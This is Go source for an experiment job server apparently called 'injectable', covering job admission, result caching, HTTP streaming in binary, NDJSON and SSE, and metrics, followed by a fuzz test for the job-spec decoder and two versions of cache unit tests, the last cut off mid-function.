	if j, ok := s.live[key]; ok {
		s.reg().Counter("serve.joins").Inc()
		s.log.Debug("job joined", "id", j.id, "key", key)
		return j, "join", nil
	}
	if c, ok := s.cache.get(key); ok {
		// Terminal jobs are never dropped from s.jobs, so the job that
		// produced the cached slab is still here; hand it back and let the
		// HTTP layer replay its sealed buffer zero-copy. No fresh job, no
		// context, no 40 KB copy — this is the serving hot path.
		if j, live := s.jobs[c.jobID]; live {
			s.reg().Counter("serve.cache_hits").Inc()
			s.cfg.Hub.Spans().Add(obs.Mark(trace, "cache-hit", "job", j.id, "key", key))
			if s.log.Enabled(context.Background(), slog.LevelDebug) {
				s.log.Debug("cache hit", "id", j.id, "key", key)
			}
			return j, "hit", nil
		}
	}
	j := newJob(s.ids.next(), norm, time.Now())
	j.trace = trace
	if err := s.queue.push(j); err != nil {
		s.reg().Counter("serve.reject_queue_full").Inc()
		s.log.Warn("job rejected", "reason", "queue full", "key", key)
		return nil, "", err
	}
	s.jobs[j.id] = j
	s.live[key] = j
	s.reg().Counter("serve.cache_misses").Inc()
	s.reg().Counter("serve.jobs_admitted").Inc()
	s.reg().Gauge("serve.queue_depth").Set(float64(s.queue.depth()))
	s.log.Info("job admitted", "id", j.id, "experiment", norm.Experiment,
		"target", norm.Target, "trials", norm.Trials, "key", key, "depth", s.queue.depth())
	return j, "miss", nil
}

// Job returns a job by id.
func (s *Server) Job(id string) (*job, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	return j, ok
}

// executor pops and runs jobs until the queue closes and drains.
func (s *Server) executor() {
	defer s.wg.Done()
	for {
		j, ok := s.queue.pop()
		if !ok {
			return
		}
		s.reg().Gauge("serve.queue_depth").Set(float64(s.queue.depth()))
		s.runJob(j)
	}
}

// runJob executes one admitted job to a terminal state.
func (s *Server) runJob(j *job) {
	start := time.Now()
	s.reg().Histogram("serve.queue_wait_ms", msHist()).
		Observe(float64(start.Sub(j.submitted).Milliseconds()))
	s.cfg.Hub.Spans().Add(obs.NewSpan(j.trace, "queue", j.submitted,
		"job", j.id, "experiment", j.spec.Experiment))

	finish := func(status JobStatus, errMsg string) {
		j.buf.seal()
		j.setStatus(status, errMsg)
		s.mu.Lock()
		if s.live[j.key] == j {
			delete(s.live, j.key)
		}
		s.mu.Unlock()
		switch status {
		case StatusDone:
			s.reg().Counter("serve.jobs_done").Inc()
		case StatusCanceled:
			s.reg().Counter("serve.jobs_canceled").Inc()
		default:
			s.reg().Counter("serve.jobs_failed").Inc()
		}
		s.reg().Histogram("serve.job_e2e_ms", msHist()).
			Observe(float64(time.Since(j.submitted).Milliseconds()))
		s.cfg.Hub.Spans().Add(obs.NewSpan(j.trace, "run", start,
			"job", j.id, "experiment", j.spec.Experiment, "status", string(status)))
		s.log.Info("job finished", "id", j.id, "status", status, "err", errMsg,
			"e2e_ms", time.Since(j.submitted).Milliseconds())
	}

	if j.canceledCtx.Err() != nil {
		finish(StatusCanceled, "canceled while queued")
		return
	}

	cspec, err := s.cfg.Registry.Build(j.spec)
	if err != nil {
		finish(StatusFailed, err.Error())
		return
	}

	timeout := s.cfg.DefaultTimeout
	if j.spec.TimeoutMS > 0 {
		timeout = time.Duration(j.spec.TimeoutMS) * time.Millisecond
	}
	ctx, cancel := context.WithTimeout(j.canceledCtx, timeout)
	defer cancel()

	j.setStatus(StatusRunning, "")
	s.reg().Gauge("serve.inflight_jobs").Set(float64(s.inflightDelta(1)))
	defer func() { s.reg().Gauge("serve.inflight_jobs").Set(float64(s.inflightDelta(-1))) }()

	// Campaigns run once, into the binary codec; NDJSON and SSE are
	// on-demand transcodes of these bytes.
	sink := campaign.NewBinary(&j.buf)
	runner := campaign.Runner{
		Workers: s.cfg.TrialWorkers,
		Sinks:   []campaign.Sink{sink},
	}
	out, err := runner.RunContext(ctx, cspec)
	switch {
	case errors.Is(err, context.Canceled):
		finish(StatusCanceled, "canceled")
		return
	case errors.Is(err, context.DeadlineExceeded):
		finish(StatusFailed, "deadline exceeded")
		return
	case err != nil:
		finish(StatusFailed, err.Error())
		return
	}
	// Only a cleanly completed stream is cacheable: cancellation and
	// per-trial timeouts truncate at a wall-clock-dependent point, and a
	// replay must be byte-identical to a fresh run.
	for _, res := range out.Results {
		if res.TimedOut {
			finish(StatusDone, "")
			return
		}
	}
	j.buf.seal()
	if slab, ok := j.buf.sealedBytes(); ok {
		// The sealed buffer is immutable, so the cache can adopt it
		// without copying; hits replay the same slab zero-copy.
		s.cache.put(j.key, &cached{jobID: j.id, slab: slab})
	}
	finish(StatusDone, "")
}

// inflightDelta adjusts and returns the in-flight job count.
func (s *Server) inflightDelta(d int) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.inflight += d
	return s.inflight
}

// Drain stops admission, lets the executors finish every accepted job,
// and returns when they exit (or ctx expires). New submissions are
// rejected with 503 for HTTP callers.
func (s *Server) Drain(ctx context.Context) error {
	s.mu.Lock()
	already := s.draining
	s.draining = true
	s.mu.Unlock()
	if !already {
		s.log.Info("draining", "inflight", s.inflightDelta(0), "queued", s.queue.depth())
		s.queue.close()
	}
	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Close stops admission and cancels every queued and running job, then
// waits for the executors.
func (s *Server) Close() {
	s.mu.Lock()
	s.draining = true
	livejobs := make([]*job, 0, len(s.live))
	for _, j := range s.live {
		livejobs = append(livejobs, j)
	}
	s.mu.Unlock()
	s.queue.close()
	for _, j := range livejobs {
		j.cancel()
	}
	s.wg.Wait()
}

// ---- HTTP layer ----

func (s *Server) routes() {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/jobs", s.handleSubmit)
	mux.HandleFunc("GET /v1/jobs/{id}", s.handleStatus)
	mux.HandleFunc("GET /v1/jobs/{id}/results", s.handleResults)
	mux.HandleFunc("GET /v1/jobs/{id}/aggregate", s.handleJobAggregate)
	mux.HandleFunc("POST /v1/jobs/{id}/cancel", s.handleCancel)
	mux.HandleFunc("POST /v1/run", s.handleRun)
	mux.HandleFunc("POST /v1/scenario", s.handleScenario)
	mux.HandleFunc("POST /v1/aggregate", s.handleAggregate)
	mux.HandleFunc("GET /v1/experiments", s.handleExperiments)
	mux.HandleFunc("GET /healthz", s.handleHealthz)
	mux.HandleFunc("GET /readyz", s.handleReadyz)
	mux.HandleFunc("GET /metrics", s.handleMetrics)
	mux.HandleFunc("GET /v1/spans", s.handleSpans)
	s.mux = mux
}

// Result stream formats. The binary codec is the storage format; NDJSON
// (the default, for compatibility with every existing consumer) and SSE
// are transcoded on demand.
const (
	FormatBinary = "binary"
	FormatNDJSON = "ndjson"
	formatSSE    = "sse"

	// BinaryContentType labels the campaign binary trial stream.
	BinaryContentType = "application/x-injectable-trials"
)

// streamFormat resolves a results request's format: the ?format= query
// wins, then the Accept header, then the NDJSON default. SSE remains a
// results-endpoint affordance only (allowSSE), matching the existing
// API shape.
func streamFormat(r *http.Request, allowSSE bool) (string, error) {
	switch f := r.URL.Query().Get("format"); f {
	case "":
	case FormatBinary:
		return FormatBinary, nil
	case FormatNDJSON:
		return FormatNDJSON, nil
	case formatSSE:
		if allowSSE {
			return formatSSE, nil
		}
		return "", fmt.Errorf("serve: format %q not supported on this endpoint", f)
	default:
		return "", fmt.Errorf("serve: unknown format %q (want %q or %q)", f, FormatBinary, FormatNDJSON)
	}
	accept := r.Header.Get("Accept")
	switch {
	case allowSSE && accept == "text/event-stream":
		return formatSSE, nil
	case strings.Contains(accept, BinaryContentType):
		return FormatBinary, nil
	}
	return FormatNDJSON, nil
}

// errorBody is the JSON error response. Fields carries structured
// per-field failures when the rejection came from scenario validation,
// so clients can map "devices[2].type: unknown device type" back onto
// their spec instead of parsing a prose message.
type errorBody struct {
	Error  string                `json:"error"`
	Fields []scenario.FieldError `json:"fields,omitempty"`
}

// httpError writes a JSON error body and counts the rejection per status
// code, so rejects show up in the exposition as
// serve_http_errors{code="..."}.
func (s *Server) httpError(w http.ResponseWriter, code int, msg string) {
	s.writeError(w, code, errorBody{Error: msg})
}

// httpErrorErr is httpError for error values: a *scenario.ValidationError
// anywhere in the chain contributes its field paths to the body.
func (s *Server) httpErrorErr(w http.ResponseWriter, code int, err error) {
	body := errorBody{Error: err.Error()}
	var verr *scenario.ValidationError
	if errors.As(err, &verr) {
		body.Fields = verr.Fields
	}
	s.writeError(w, code, body)
}

func (s *Server) writeError(w http.ResponseWriter, code int, body errorBody) {
	s.reg().Counter(fmt.Sprintf("serve.http_errors{code=%q}", strconv.Itoa(code))).Inc()
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(body)
}

// retryAfterSecs renders the Retry-After hint (minimum 1s).
func (s *Server) retryAfterSecs() string {
	secs := int(s.cfg.RetryAfter / time.Second)
	if secs < 1 {
		secs = 1
	}
	return strconv.Itoa(secs)
}

// decodeSubmit reads and strictly decodes the request body. The limit
// reads one byte past the spec cap so an oversized body is detected as
// such rather than silently truncated into a JSON error.
func decodeSubmit(r *http.Request) (JobSpec, error) {
	buf, err := io.ReadAll(io.LimitReader(r.Body, maxSpecBytes+1))
	if err != nil {
		return JobSpec{}, fmt.Errorf("serve: reading job spec: %w", err)
	}
	return DecodeJobSpec(buf)
}

// submitHTTP maps Submit errors onto status codes; on success it returns
// the job and its disposition. A caller-supplied X-Trace-Id header (the
// coordinator's campaign hash) becomes the job's trace id.
func (s *Server) submitHTTP(w http.ResponseWriter, r *http.Request) (*job, string, bool) {
	spec, err := decodeSubmit(r)
	if err != nil {
		s.reg().Counter("serve.reject_invalid").Inc()
		s.httpErrorErr(w, http.StatusBadRequest, err)
		return nil, "", false
	}
	return s.submitSpec(w, r, spec)
}

// submitSpec submits a decoded spec and maps submission errors onto
// status codes.
func (s *Server) submitSpec(w http.ResponseWriter, r *http.Request, spec JobSpec) (*job, string, bool) {
	j, disp, err := s.submit(spec, r.Header.Get(TraceHeader))
	switch {
	case err == nil:
		return j, disp, true
	case errors.Is(err, errDraining):
		w.Header().Set("Retry-After", s.retryAfterSecs())
		s.httpError(w, http.StatusServiceUnavailable, err.Error())
	case errors.Is(err, ErrQueueFull), errors.Is(err, ErrQueueClosed):
		w.Header().Set("Retry-After", s.retryAfterSecs())
		s.httpError(w, http.StatusTooManyRequests, err.Error())
	default:
		s.httpErrorErr(w, http.StatusBadRequest, err)
	}
	return nil, "", false
}

func (s *Server) handleSubmit(w http.ResponseWriter, r *http.Request) {
	j, disp, ok := s.submitHTTP(w, r)
	if !ok {
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-Cache", disp)
	w.WriteHeader(http.StatusAccepted)
	json.NewEncoder(w).Encode(j.snapshot())
}

func (s *Server) handleStatus(w http.ResponseWriter, r *http.Request) {
	j, ok := s.Job(r.PathValue("id"))
	if !ok {
		s.httpError(w, http.StatusNotFound, "unknown job id")
		return
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(j.snapshot())
}

func (s *Server) handleCancel(w http.ResponseWriter, r *http.Request) {
	j, ok := s.Job(r.PathValue("id"))
	if !ok {
		s.httpError(w, http.StatusNotFound, "unknown job id")
		return
	}
	j.cancel()
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(j.snapshot())
}

func (s *Server) handleResults(w http.ResponseWriter, r *http.Request) {
	j, ok := s.Job(r.PathValue("id"))
	if !ok {
		s.httpError(w, http.StatusNotFound, "unknown job id")
		return
	}
	format, err := streamFormat(r, true)
	if err != nil {
		s.httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	s.serveStream(w, r, j, format)
}

func (s *Server) handleRun(w http.ResponseWriter, r *http.Request) {
	format, err := streamFormat(r, false)
	if err != nil {
		s.httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	j, disp, ok := s.submitHTTP(w, r)
	if !ok {
		return
	}
	w.Header().Set("X-Cache", disp)
	w.Header().Set("X-Job-ID", j.id)
	s.serveStream(w, r, j, format)
}

// handleScenario is run-and-stream for declarative scenarios: the body
// is the raw scenario spec itself (not a JobSpec envelope), job knobs
// ride the query string, and the response streams results exactly like
// POST /v1/run — same dedup, cache, binary/NDJSON negotiation and live
// follow. A validation failure answers with structured field paths.
func (s *Server) handleScenario(w http.ResponseWriter, r *http.Request) {
	format, err := streamFormat(r, false)
	if err != nil {
		s.httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	base, err := jobQuery(r)
	if err != nil {
		s.httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	raw, err := io.ReadAll(io.LimitReader(r.Body, maxSpecBytes+1))
	if err != nil {
		s.httpError(w, http.StatusBadRequest, fmt.Sprintf("serve: reading scenario spec: %v", err))
		return
	}
	spec, err := ScenarioJobSpec(raw, base)
	if err != nil {
		s.reg().Counter("serve.reject_invalid").Inc()
		s.httpErrorErr(w, http.StatusBadRequest, err)
		return
	}
	j, disp, ok := s.submitSpec(w, r, spec)
	if !ok {
		return
	}
	w.Header().Set("X-Cache", disp)
	w.Header().Set("X-Job-ID", j.id)
	s.serveStream(w, r, j, format)
}

// jobQuery reads the JobSpec knobs POST /v1/scenario accepts as query
// parameters (the body being the scenario itself).
func jobQuery(r *http.Request) (JobSpec, error) {
	var spec JobSpec
	q := r.URL.Query()
	intParam := func(name string, dst *int) error {
		v := q.Get(name)
		if v == "" {
			return nil
		}
		n, err := strconv.Atoi(v)
		if err != nil {
			return fmt.Errorf("serve: query %s=%q is not an integer", name, v)
		}
		*dst = n
		return nil
	}
	for name, dst := range map[string]*int{
		"trials":      &spec.Trials,
		"priority":    &spec.Priority,
		"point_start": &spec.PointStart,
		"point_count": &spec.PointCount,
	} {
		if err := intParam(name, dst); err != nil {
			return JobSpec{}, err
		}
	}
	if v := q.Get("seed_base"); v != "" {
		n, err := strconv.ParseUint(v, 10, 64)
		if err != nil {
			return JobSpec{}, fmt.Errorf("serve: query seed_base=%q is not an unsigned integer", v)
		}
		spec.SeedBase = n
	}
	if v := q.Get("timeout_ms"); v != "" {
		n, err := strconv.ParseInt(v, 10, 64)
		if err != nil {
			return JobSpec{}, fmt.Errorf("serve: query timeout_ms=%q is not an integer", v)
		}
		spec.TimeoutMS = n
	}
	spec.Warmup = q.Get("warmup")
	return spec, nil
}

// serveStream writes job j's result stream in the negotiated format.
// Completed streams go out zero-copy: binary replays the sealed slab
// itself, NDJSON replays the per-cache-entry memoized transcode. Live
// streams flow through the broadcast buffer — transcoded frame-by-frame
// for NDJSON/SSE subscribers — so every consumer sees per-trial results
// as they land.
func (s *Server) serveStream(w http.ResponseWriter, r *http.Request, j *job, format string) {
	switch format {
	case FormatBinary:
		w.Header().Set("Content-Type", BinaryContentType)
		if slab, ok := j.buf.sealedBytes(); ok {
			s.writeSlab(w, slab)
			return
		}
		s.streamCopy(w, j.buf.reader(r.Context()))
	case formatSSE:
		s.streamSSE(w, r, j)
	default:
		w.Header().Set("Content-Type", "application/x-ndjson")
		if nd, ok := s.ndjsonSlab(j); ok {
			s.writeSlab(w, nd)
			return
		}
		s.streamCopy(w, campaign.NewBinaryNDJSONReader(j.buf.reader(r.Context())))
	}
}

// ndjsonSlab returns the memoized NDJSON rendering of a completed,
// cached job's slab. Jobs that finished without entering the cache
// (timed-out trials, failures) fall back to the streaming transcoder.
func (s *Server) ndjsonSlab(j *job) ([]byte, bool) {
	c, ok := s.cache.get(j.key)
	if !ok || c.jobID != j.id {
		return nil, false
	}
	nd, err := c.ndjsonSlab()
	if err != nil {
		return nil, false
	}
	return nd, true
}

// writeSlab sends one completed stream in a single write, counting it
// in the same egress counter the streaming path feeds.
func (s *Server) writeSlab(w http.ResponseWriter, slab []byte) {
	if _, err := w.Write(slab); err != nil {
		return
	}
	s.reg().Counter("serve.stream_bytes").Add(int64(len(slab)))
}

// awaitTerminal blocks until j reaches a terminal state or ctx expires.
func awaitTerminal(ctx context.Context, j *job) error {
	select {
	case <-j.done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// aggregateJob renders a terminal job's columnar aggregate, memoized on
// the cache entry when the job's stream was cacheable.
func (s *Server) aggregateJob(j *job) (*Aggregate, error) {
	if c, ok := s.cache.get(j.key); ok && c.jobID == j.id {
		return c.aggregate()
	}
	slab, ok := j.buf.sealedBytes()
	if !ok {
		return nil, errors.New("serve: job stream not sealed")
	}
	return AggregateStream(slab)
}

// serveAggregate waits the job out and writes its aggregate (or maps
// the failure onto a status code).
func (s *Server) serveAggregate(w http.ResponseWriter, r *http.Request, j *job) {
	if err := awaitTerminal(r.Context(), j); err != nil {
		return // client went away; nothing sensible to write
	}
	if snap := j.snapshot(); snap.Status != StatusDone {
		s.httpError(w, http.StatusConflict,
			fmt.Sprintf("serve: job %s %s: %s", j.id, snap.Status, snap.Error))
		return
	}
	agg, err := s.aggregateJob(j)
	if err != nil {
		s.httpError(w, http.StatusInternalServerError, err.Error())
		return
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(agg)
}

// handleAggregate is POST /v1/aggregate: submit (or join/hit) a spec and
// answer with its columnar aggregate instead of the trial stream —
// kilobytes of per-point success rates and latency histograms rather
// than the full replay.
func (s *Server) handleAggregate(w http.ResponseWriter, r *http.Request) {
	j, disp, ok := s.submitHTTP(w, r)
	if !ok {
		return
	}
	w.Header().Set("X-Cache", disp)
	w.Header().Set("X-Job-ID", j.id)
	s.serveAggregate(w, r, j)
}

// handleJobAggregate is GET /v1/jobs/{id}/aggregate.
func (s *Server) handleJobAggregate(w http.ResponseWriter, r *http.Request) {
	j, ok := s.Job(r.PathValue("id"))
	if !ok {
		s.httpError(w, http.StatusNotFound, "unknown job id")
		return
	}
	s.serveAggregate(w, r, j)
}

func (s *Server) handleExperiments(w http.ResponseWriter, r *http.Request) {
	type entry struct {
		Name    string   `json:"name"`
		Targets []string `json:"targets,omitempty"`
	}
	var out []entry
	for _, name := range s.cfg.Registry.Names() {
		e, _ := s.cfg.Registry.Lookup(name)
		out = append(out, entry{Name: e.Name, Targets: e.Targets})
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(out)
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	w.WriteHeader(http.StatusOK)
	fmt.Fprintln(w, "ok")
}

func (s *Server) handleReadyz(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	draining := s.draining
	s.mu.Unlock()
	if draining {
		w.Header().Set("Retry-After", s.retryAfterSecs())
		s.httpError(w, http.StatusServiceUnavailable, "draining")
		return
	}
	w.WriteHeader(http.StatusOK)
	fmt.Fprintln(w, "ready")
}

// handleMetrics serves the process's metrics snapshot: JSON by default,
// Prometheus text exposition with ?format=prom (or an Accept header
// preferring text/plain), so the same endpoint feeds both the fleet
// aggregator and scrape-based collectors.
func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	if wantsProm(r) {
		w.Header().Set("Content-Type", obs.PromContentType)
		if err := obs.WritePromText(w, s.cfg.Hub.Snapshot()); err != nil {
			s.log.Warn("prom exposition failed", "err", err)
		}
		return
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(s.cfg.Hub.Snapshot())
}

// wantsProm reports whether a /metrics request asked for the text
// exposition format.
func wantsProm(r *http.Request) bool {
	if f := r.URL.Query().Get("format"); f == "prom" || f == "prometheus" {
		return true
	}
	return false
}

// handleSpans serves the recorded spans as JSON, optionally filtered to
// one trace id (?trace=...). The coordinator uses it to assemble the
// cross-process fleet trace.
func (s *Server) handleSpans(w http.ResponseWriter, r *http.Request) {
	spans := s.cfg.Hub.Spans().Snapshot()
	if trace := r.URL.Query().Get("trace"); trace != "" {
		spans = obs.FilterTrace(spans, trace)
	}
	if spans == nil {
		spans = []obs.Span{}
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(spans)
}

// streamCopy copies the job stream to the client, flushing as bytes
// arrive so subscribers see per-trial results live. Every byte sent is
// counted in serve.stream_bytes, so egress volume is visible fleet-wide.
func (s *Server) streamCopy(w http.ResponseWriter, src interface{ Read([]byte) (int, error) }) {
	fl, _ := w.(http.Flusher)
	egress := s.reg().Counter("serve.stream_bytes")
	buf := make([]byte, 32*1024)
	for {
		n, err := src.Read(buf)
		if n > 0 {
			if _, werr := w.Write(buf[:n]); werr != nil {
				return
			}
			egress.Add(int64(n))
			if fl != nil {
				fl.Flush()
			}
		}
		if err != nil {
			return
		}
	}
}

// streamSSE reframes the stream as server-sent events: one "result"
// event per NDJSON line (transcoded live from the binary buffer), then
// a terminal "end" event.
func (s *Server) streamSSE(w http.ResponseWriter, r *http.Request, j *job) {
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	fl, _ := w.(http.Flusher)
	sc := bufio.NewScanner(campaign.NewBinaryNDJSONReader(j.buf.reader(r.Context())))
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	for sc.Scan() {
		if _, err := fmt.Fprintf(w, "event: result\ndata: %s\n\n", sc.Bytes()); err != nil {
			return
		}
		if fl != nil {
			fl.Flush()
		}
	}
	fmt.Fprint(w, "event: end\ndata: {}\n\n")
	if fl != nil {
		fl.Flush()
	}
}
