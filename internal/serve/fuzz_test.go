package serve

import (
	"encoding/json"
	"reflect"
	"testing"
)

// FuzzDecodeJobSpec hammers the strict wire decoder. Properties:
//
//   - it never panics;
//   - an accepted spec passes its own bounds check;
//   - Normalize is idempotent;
//   - re-encoding and re-decoding an accepted spec is lossless, and the
//     canonical dedup key survives the round trip — the property the
//     dedup cache's correctness rests on.
func FuzzDecodeJobSpec(f *testing.F) {
	f.Add([]byte(`{"experiment":"exp1"}`))
	f.Add([]byte(`{"experiment":"scenarioA","target":"keyfob","trials":10,"seed_base":42,"priority":3,"timeout_ms":1000}`))
	f.Add([]byte(`{"experiment":"exp1","bogus":1}`))
	f.Add([]byte(`{"experiment":"exp1"}{}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(``))
	f.Add([]byte(`{"experiment":"heuristic","trials":500,"priority":9}`))
	f.Add([]byte(`{"experiment":" ","seed_base":18446744073709551615}`))
	f.Add([]byte(`{"experiment":"exp1","point_start":2,"point_count":2}`))
	f.Add([]byte(`{"experiment":"exp1","point_start":1048577}`))
	f.Add([]byte(`{"experiment":"exp1","point_count":-1}`))
	f.Add([]byte(`{"scenario":{"version":1}}`))
	f.Add([]byte(`{"scenario":{"version":1,"conn":{"interval":36}},"trials":2}`))
	f.Add([]byte(`{"experiment":"exp1","scenario":{"version":1}}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		spec, err := DecodeJobSpec(data)
		if err != nil {
			return
		}
		if cerr := spec.check(); cerr != nil {
			t.Fatalf("accepted spec fails its own check: %v (spec %+v)", cerr, spec)
		}
		norm := spec.Normalize()
		if !reflect.DeepEqual(norm.Normalize(), norm) {
			t.Fatalf("Normalize not idempotent: %+v", norm)
		}
		if spec.Key() != norm.Key() {
			t.Fatalf("normalization changed the key: %+v vs %+v", spec, norm)
		}
		reenc, merr := json.Marshal(spec)
		if merr != nil {
			t.Fatalf("accepted spec does not re-encode: %v (%+v)", merr, spec)
		}
		spec2, err2 := DecodeJobSpec(reenc)
		if err2 != nil {
			t.Fatalf("re-encoded spec rejected: %v (%s)", err2, reenc)
		}
		if !reflect.DeepEqual(spec2, spec) {
			t.Fatalf("round trip changed the spec: %+v vs %+v", spec2, spec)
		}
		if spec2.Key() != spec.Key() {
			t.Fatalf("round trip changed the key: %s vs %s", spec2.Key(), spec.Key())
		}
	})
}
