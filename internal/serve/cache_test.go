package serve

import (
	"bytes"
	"fmt"
	"sync"
	"testing"

	"injectable/internal/campaign"
)

func TestCacheLRUEviction(t *testing.T) {
	c := newResultCache(3)
	for i := 0; i < 3; i++ {
		c.put(fmt.Sprintf("k%d", i), &cached{jobID: fmt.Sprintf("j%d", i)})
	}
	// Touch k0 so k1 becomes the eviction victim.
	if _, ok := c.get("k0"); !ok {
		t.Fatal("k0 missing")
	}
	c.put("k3", &cached{jobID: "j3"})
	if _, ok := c.get("k1"); ok {
		t.Error("k1 survived eviction; want LRU evicted")
	}
	for _, k := range []string{"k0", "k2", "k3"} {
		if _, ok := c.get(k); !ok {
			t.Errorf("%s evicted; want kept", k)
		}
	}
	if n := c.len(); n != 3 {
		t.Errorf("len = %d, want 3", n)
	}
}

func TestCachePutReplaces(t *testing.T) {
	c := newResultCache(2)
	c.put("k", &cached{jobID: "old", slab: []byte("old")})
	c.put("k", &cached{jobID: "new", slab: []byte("new")})
	got, ok := c.get("k")
	if !ok || string(got.slab) != "new" || got.jobID != "new" {
		t.Fatalf("get = %+v/%v, want replaced entry", got, ok)
	}
	if n := c.len(); n != 1 {
		t.Errorf("len = %d, want 1", n)
	}
}

func TestCacheMinCapacity(t *testing.T) {
	c := newResultCache(0) // clamps to 1
	c.put("a", &cached{jobID: "a"})
	c.put("b", &cached{jobID: "b"})
	if _, ok := c.get("a"); ok {
		t.Error("capacity-0 cache kept more than one entry")
	}
	if _, ok := c.get("b"); !ok {
		t.Error("most recent entry missing")
	}
}

// TestCacheConcurrentPutGet hammers a small cache from many goroutines
// and then verifies the LRU invariants still hold: size within bound,
// every surviving entry internally consistent (key matches its slab),
// and a get-refreshed key survives a subsequent eviction wave.
func TestCacheConcurrentPutGet(t *testing.T) {
	c := newResultCache(8)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				k := fmt.Sprintf("k%d", (g*31+i)%24)
				if i%3 == 0 {
					c.put(k, &cached{jobID: k, slab: []byte(k)})
				} else if e, ok := c.get(k); ok && string(e.slab) != k {
					t.Errorf("entry %s holds slab %q", k, e.slab)
				}
			}
		}(g)
	}
	wg.Wait()
	if n := c.len(); n > 8 {
		t.Fatalf("cache grew past its bound: %d entries", n)
	}
	// Deterministic eviction-order check after the storm: insert fresh
	// keys, keep one hot with gets, and verify the hot key outlives the
	// cold ones.
	for i := 0; i < 8; i++ {
		c.put(fmt.Sprintf("fresh%d", i), &cached{jobID: "x"})
	}
	for i := 0; i < 16; i++ {
		c.get("fresh0")
		c.put(fmt.Sprintf("spill%d", i), &cached{jobID: "y"})
	}
	if _, ok := c.get("fresh0"); !ok {
		t.Error("hot entry evicted before cold ones")
	}
	if _, ok := c.get("fresh1"); ok {
		t.Error("cold entry survived 16 evictions")
	}
}

// TestCacheSlabImmutableAfterEviction pins the zero-copy contract: a
// reader holding an evicted entry keeps seeing the exact original
// bytes — eviction drops the cache's reference, nothing more.
func TestCacheSlabImmutableAfterEviction(t *testing.T) {
	slab := campaign.BinaryHeader("camp", 7, 1, 1)
	slab = campaign.AppendBinaryRecord(slab, campaign.Record{Point: "p0", Seed: 9, OK: true})
	slab = append(slab, campaign.BinaryTrailer(1, 1, 0)...)
	want := append([]byte(nil), slab...)

	c := newResultCache(1)
	c.put("k", &cached{jobID: "j", slab: slab})
	held, ok := c.get("k")
	if !ok {
		t.Fatal("entry missing")
	}
	nd1, err := held.ndjsonSlab() // memoize the transcode before eviction
	if err != nil {
		t.Fatal(err)
	}
	c.put("other", &cached{jobID: "j2", slab: []byte("xxxx")}) // evicts k
	if _, ok := c.get("k"); ok {
		t.Fatal("k survived eviction in a capacity-1 cache")
	}
	if !bytes.Equal(held.slab, want) {
		t.Fatal("slab bytes changed after eviction")
	}
	nd2, err := held.ndjsonSlab()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(nd1, nd2) {
		t.Fatal("memoized NDJSON transcode changed after eviction")
	}
	var fresh bytes.Buffer
	if err := campaign.TranscodeBinaryToNDJSON(&fresh, held.slab); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(fresh.Bytes(), nd1) {
		t.Fatal("memoized transcode differs from a fresh transcode")
	}
}

// TestCachedTranscodeMemoized verifies the NDJSON rendering is built
// once and the identical slice is handed to every caller.
func TestCachedTranscodeMemoized(t *testing.T) {
	slab := append(campaign.BinaryHeader("c", 1, 0, 0), campaign.BinaryTrailer(0, 0, 0)...)
	e := &cached{jobID: "j", slab: slab}
	a, err := e.ndjsonSlab()
	if err != nil {
		t.Fatal(err)
	}
	b, err := e.ndjsonSlab()
	if err != nil {
		t.Fatal(err)
	}
	if len(a) == 0 || &a[0] != &b[0] {
		t.Fatal("transcode was not memoized")
	}
}
