package serve

import (
	"fmt"
	"testing"
)

func TestCacheLRUEviction(t *testing.T) {
	c := newResultCache(3)
	for i := 0; i < 3; i++ {
		c.put(fmt.Sprintf("k%d", i), cached{jobID: fmt.Sprintf("j%d", i)})
	}
	// Touch k0 so k1 becomes the eviction victim.
	if _, ok := c.get("k0"); !ok {
		t.Fatal("k0 missing")
	}
	c.put("k3", cached{jobID: "j3"})
	if _, ok := c.get("k1"); ok {
		t.Error("k1 survived eviction; want LRU evicted")
	}
	for _, k := range []string{"k0", "k2", "k3"} {
		if _, ok := c.get(k); !ok {
			t.Errorf("%s evicted; want kept", k)
		}
	}
	if n := c.len(); n != 3 {
		t.Errorf("len = %d, want 3", n)
	}
}

func TestCachePutReplaces(t *testing.T) {
	c := newResultCache(2)
	c.put("k", cached{jobID: "old", body: []byte("old")})
	c.put("k", cached{jobID: "new", body: []byte("new")})
	got, ok := c.get("k")
	if !ok || string(got.body) != "new" || got.jobID != "new" {
		t.Fatalf("get = %+v/%v, want replaced entry", got, ok)
	}
	if n := c.len(); n != 1 {
		t.Errorf("len = %d, want 1", n)
	}
}

func TestCacheMinCapacity(t *testing.T) {
	c := newResultCache(0) // clamps to 1
	c.put("a", cached{jobID: "a"})
	c.put("b", cached{jobID: "b"})
	if _, ok := c.get("a"); ok {
